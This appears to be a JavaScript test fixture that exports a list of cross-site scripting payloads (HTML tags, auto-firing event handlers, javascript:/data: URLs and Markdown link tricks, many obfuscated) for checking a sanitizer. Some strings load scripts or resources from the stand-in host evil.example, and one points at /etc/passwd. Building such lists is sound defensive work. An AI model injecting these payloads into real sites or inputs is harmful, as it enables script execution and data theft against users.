/**
 * Texts that run a script or load something where a page takes them for HTML, Markdown or a URL. Each would call `alert` or load something from
 * evil.example. They are the known kinds (OWASP's and PortSwigger's collections name them), each in several notations.
 */

const EVIL = "https://evil.example";

/** HTML that runs something without a click. */
const TAGS = [
  "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=https://evil.example/x.js></script>",
  "<script/x>alert(1)</script >", "<script\n>alert(1)</script\n>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
  "<script type=module>import '//evil.example/x.js'</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<iframe src=https://evil.example></iframe>",
  "<frameset onload=alert(1)>", "<object data=javascript:alert(1)>", "<object data=https://evil.example/x.swf>", "<embed src=javascript:alert(1)>", "<embed src=https://evil.example/x>",
  "<base href=https://evil.example/>", "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload as=script href=https://evil.example/x.js>",
  "<link rel=prefetch href=https://evil.example/x>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/x)}</style>", "<div style='background:url(https://evil.example/x)'>x</div>",
  "<form action=javascript:alert(1)><button>x</button></form>", "<form><button formaction=javascript:alert(1)>x</button></form>", "<isindex action=javascript:alert(1) type=submit>",
  "<applet code=x>", "<portal src=https://evil.example>", "<tansy-chat bundle=https://evil.example/b open></tansy-chat>",
];

/** Handlers that the browser calls by itself, on the elements that have them. */
const HANDLERS = [
  "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img src=x onerror='alert(1)'>", '<img src=x onerror="alert(1)">', "<img src=x onerror=alert`1`>", "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror=alert(1)//", "<img src='x' onerror ='alert(1)'", "<img src=x:x onerror=&#97;lert(1)>", "<img \x00src=x onerror=alert(1)>", "<img src=x onerror=top['al'+'ert'](1)>",
  "<img srcset='x' onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x>", "<svg><image href=x onerror=alert(1)></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body onhashchange=alert(1)>", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
  "<keygen onfocus=alert(1) autofocus>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video poster=https://evil.example/x>",
  "<audio src=https://evil.example/x autoplay>", "<details ontoggle=alert(1) open>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<dialog open onclose=alert(1)>",
  "<div onanimationstart=alert(1) style='animation:x 1s'>x</div>", "<div ontransitionend=alert(1)>x</div>", "<p onpointerenter=alert(1)>x</p>", "<a onmouseover=alert(1)>x</a>",
  "<track onerror=alert(1)>", "<object onerror=alert(1)>", "<link rel=stylesheet href=x onerror=alert(1)>", "<style onload=alert(1)></style>", "<script src=x onerror=alert(1)></script>",
  "<iframe onload=alert(1)></iframe>", "<xss onfocus=alert(1) tabindex=1 autofocus>", "<xss contenteditable onfocus=alert(1) autofocus>", "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<mglyph><style></math><img src onerror=alert(1)>", "<table background=https://evil.example/x>",
];

/** URLs that are code, or hide that they are, in every notation of Markdown's links and images. */
const URLS = [
  "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
  "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "javascript://x%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
  "jar:https://evil.example!/x", "about:blank#alert(1)", "intent://evil.example#Intent;end", "ws://evil.example",
];
const LINKS = URLS.flatMap((url) => [`[x](${url})`, `<${url}>`, `![x](${url})`]);

/** Markdown that other readers turn into something that runs or loads. */
const MARKDOWN = [
  `![x](${EVIL}/x.png)`, `![x](${EVIL}/x.png "t")`, `![x][1]\n\n[1]: ${EVIL}/x.png`, `[![x](${EVIL}/x.png)](${EVIL})`, `![](//evil.example/x.png)`, `![x](<${EVIL}/x.png>)`,
  `[x](<javascript:alert(1)>)`, `[x](javascript:alert(1) "t")`, `[x](javascript:/*--></title></style></textarea></script>*/alert(1))`, `[x][1]\n\n[1]: javascript:alert(1)`, `[x](javascript:alert(1)//https://shop.example)`,
  `[x" onmouseover="alert(1)](https://shop.example)`, `[x](https://shop.example" onmouseover="alert(1))`, `[x](https://shop.example 'x onclick=alert(1)')`, "[<img src=x onerror=alert(1)>](https://shop.example)",
  "**<img src=x onerror=alert(1)>**", "`<img src=x onerror=alert(1)>`", "```\n<script>alert(1)</script>\n```", "```html\"><script>alert(1)</script>\n```", "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "- <svg onload=alert(1)>\n- [x](javascript:alert(1))", "# <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", "<https://evil.example/\"onmouseover=alert(1)>", "https://shop.example/\"><script>alert(1)</script>",
  "[1](javascript:alert(1)) [1]", "[1][javascript:alert(1)]", "\\<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E",
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "＜script＞alert(1)＜/script＞", "<img src=x onerror=alert(1)>".split("").join("\u200B"), "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
  "__proto__", "constructor", "toString", "';alert(1)//", "\";alert(1)//", "</script><script>alert(1)</script>",
];

/** All of them. @type {string[]} */
export const XSS = [...TAGS, ...HANDLERS, ...LINKS, ...MARKDOWN];
